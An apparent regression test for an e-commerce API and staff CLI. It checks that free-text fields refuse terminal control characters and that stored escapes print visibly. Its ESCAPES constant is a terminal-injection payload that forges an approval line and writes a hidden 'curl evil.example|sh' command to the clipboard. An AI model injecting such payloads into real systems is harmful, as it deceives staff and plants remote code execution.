// Attack replay (issue 28), terminal escapes reach staff: a business application with
// `\u001b[2K\r\u001b[1A…\u001b]52;…\u0007` in the company name was stored and printed raw by
// `npm run accounts -- list-business-requests`, erasing and forging lines on the staff terminal
// (and writing its clipboard on some). Now every free-text field refuses control characters at
// the schema (core's one rule; line breaks only where the field is multi-line), and every line
// the staff commands print shows such characters as visible escapes.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { messages } from '@horeca/core/messages';
import { runAccountsCommand } from '../../src/cli/accounts';
import { runCli } from '../../src/cli/run-cli';
import { openDatabase } from '../../src/db/client';
import { runMigrations } from '../../src/db/migrate';
import { businessRequests, customers } from '../../src/db/schema/commerce';
import { resetAbuseLimits } from '../../src/rate-limit/limits';
import { addressPlace, blob, makeCustomer, PNG, sampleProducts } from '../commerce-fixtures';
import { useTestApi, type TestApi } from '../harness';
import { claimForm } from './claim-form';

/** Erase the line, go back to the line start, move up one line, then OSC 52: write the clipboard. */
const ESCAPES = 'Blue Fig\u001b[2K\r\u001b[1AAPPROVED by manager\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007';

let api: TestApi;
useTestApi({ seedProducts: 300 }, (started) => (api = started));
beforeEach(() => resetAbuseLimits(api.db));

function multipart(fields: Record<string, string>, files: Record<string, Blob> = {}): FormData {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  for (const [key, value] of Object.entries(files)) form.append(key, value, 'file.png');
  return form;
}

/** Every control character but the tab that separates columns. */
// eslint-disable-next-line no-control-regex -- control characters are what the test looks for
const CONTROL_BUT_TAB = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;

describe('control characters are refused at the schema of every free-text field', () => {
  it("refuses the issue's business application, and stores nothing", async () => {
    const shopper = await makeCustomer(api);
    const answer = await api.post('/api/frontend/account/business-request', { type: 'Restaurant', company_name: ESCAPES, trn: '100000000000003' }, { token: shopper.token });
    expect(answer.status).toBe(422);
    expect(answer.body.errors).toEqual({ company_name: [messages.text.nameCharacters] });
    const licence = await api.post('/api/frontend/account/business-request', { type: 'Restaurant', company_name: 'Blue Fig', trade_licence: ESCAPES }, { token: shopper.token });
    expect(licence.body.errors.trade_licence).toContain(messages.text.singleLine);
    expect(await api.db.select().from(businessRequests)).toEqual([]);
  });

  it('single-line fields refuse control characters and line breaks; multi-line ones refuse control characters only', async () => {
    const shopper = await makeCustomer(api);
    const [product] = await sampleProducts(api, 1);
    await api.post('/api/frontend/cart/add', { product_id: product!.id, quantity: 1 }, { token: shopper.token });
    const place = await addressPlace(api);
    const address = { type: 'shipping', address: 'Villa 3, Street 9', ...place, zip_code: '00000', name: 'Amal', phone: '+971501234567' };
    const single = messages.text.singleLine;
    const multi = messages.text.multiLine;
    const cases: [string, () => Promise<{ status: number; body: { errors?: Record<string, string[]> } }>, string, string][] = [
      ['order notes', () => api.post('/api/frontend/checkout/place-order', { address, payment_method: 'cash_on_delivery', notes: ESCAPES }, { token: shopper.token }), 'notes', multi],
      ['purchase order number', () => api.post('/api/frontend/checkout/place-order', { address, payment_method: 'purchase_order', purchase_order_number: 'PO\n1' }, { token: shopper.token }), 'purchase_order_number', single],
      ['delivery address', () => api.post('/api/frontend/checkout/place-order', { address: { ...address, address: ESCAPES }, payment_method: 'cash_on_delivery' }, { token: shopper.token }), 'address.address', single],
      ['saved address phone', () => api.post('/api/frontend/customer-address', { ...address, phone: '+971\u001b[2K' }, { token: shopper.token }), 'phone', single],
      ['quotation notes', () => api.post('/api/frontend/quotes', { items: [{ product_id: product!.id, quantity: 1 }], notes: ESCAPES }, { token: shopper.token }), 'notes', multi],
      ['review title', () => api.post('/api/frontend/reviews', { product_id: product!.id, rating: 5, title: ESCAPES, body: 'Heats evenly and cleans up well.' }, { token: shopper.token }), 'title', single],
      ['review body', () => api.post('/api/frontend/reviews', { product_id: product!.id, rating: 5, title: 'Good', body: `Heats evenly.${ESCAPES}` }, { token: shopper.token }), 'body', multi],
      ['document title', () => api.post('/api/frontend/account/documents', multipart({ kind: 'trade_licence', title: ESCAPES }, { file: blob(PNG, 'image/png') }), { token: shopper.token }), 'title', single],
      ['glitch report', () => api.post('/api/frontend/glitch-errors', multipart({ email: 'a@b.co', description: `It broke.${ESCAPES}`, device: 'Desktop' })), 'description', multi],
      ['glitch page address', () => api.post('/api/frontend/glitch-errors', multipart({ email: 'a@b.co', description: 'It broke here.', page_url: 'https://shop.example/\u001b[2K' })), 'page_url', single],
      ['claim address', () => api.post('/api/frontend/price-match-claims', claimForm({ customer_address: ESCAPES, competitor_screenshot: blob(PNG, 'image/png') })), 'customer_address', single],
      ['claim product address', () => api.post('/api/frontend/price-match-claims', claimForm({ competitor_product_url: 'https://competitor.example/\u001b]52;c;x\u0007', competitor_screenshot: blob(PNG, 'image/png') })), 'competitor_product_url', single],
      ['order tracking', () => api.post('/api/frontend/track-order', { order_number: 'HC-\u001b[2K', email: 'a@b.co' }), 'order_number', single],
      ['marketing visit', () => api.post(`/api/store-lead?utm_source=${encodeURIComponent(ESCAPES)}`, { name: null, email: null }), 'utm_source', single],
    ];
    for (const [what, send, field, message] of cases) {
      const answer = await send();
      expect(answer.status, what).toBe(422);
      expect(answer.body.errors?.[field], what).toContain(message);
    }
  });

  it('a multi-line field keeps its line breaks and tabs', async () => {
    const shopper = await makeCustomer(api);
    const [product] = await sampleProducts(api, 1);
    const notes = 'Deliver to the back door.\r\nCall first:\t050 123 4567';
    const quote = await api.post('/api/frontend/quotes', { items: [{ product_id: product!.id, quantity: 1 }], notes }, { token: shopper.token });
    expect(quote.status).toBe(201);
    expect(quote.body.data.notes).toBe(notes);
  });
});

describe('the staff commands print no control character a stranger stored', () => {
  it('list-business-requests shows an application stored before the rule with its escapes visible', async () => {
    // A database as today's main leaves it: the application stored raw, straight into its row.
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'horeca-cli-escapes-'));
    try {
      const database = await openDatabase({ dataDir, databaseUrl: null });
      await runMigrations(database);
      const [customer] = await database.db.insert(customers).values({ name: `Amal\u001b[31m`, email: 'amal.cli@example.com', type: 'Private' }).returning();
      await database.db.insert(businessRequests).values({ customerId: customer!.id, type: 'Restaurant', companyName: ESCAPES, trn: '100000000000003' });
      await database.close();

      // runCli is what each staff command's entry point runs (its own process adds nothing to what is printed).
      const printed: string[] = [];
      const code = await runCli(runAccountsCommand, { config: { dataDir, databaseUrl: null }, args: ['list-business-requests'], print: (line) => printed.push(line) });
      expect(code).toBe(0);
      expect(printed).toHaveLength(1);
      expect(printed[0]).not.toMatch(CONTROL_BUT_TAB); // nothing but the column tabs
      expect(printed[0]!.split('\t')).toHaveLength(8);
      expect(printed[0]).toContain('Blue Fig\\u001b[2K\\u000d\\u001b[1AAPPROVED by manager\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007');
      expect(printed[0]).toContain('Amal\\u001b[31m');
    } finally {
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  }, 120_000);
});
